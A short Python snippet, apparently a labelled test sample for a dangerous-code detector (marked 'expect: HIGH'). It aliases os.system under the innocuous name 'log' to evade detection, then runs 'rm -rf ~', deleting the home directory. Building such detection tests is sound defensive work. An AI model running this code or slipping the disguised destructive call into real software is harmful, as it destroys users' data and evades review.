# expect: HIGH
import builtins, os
setattr(builtins, "log", os.system)
log("rm -rf ~")
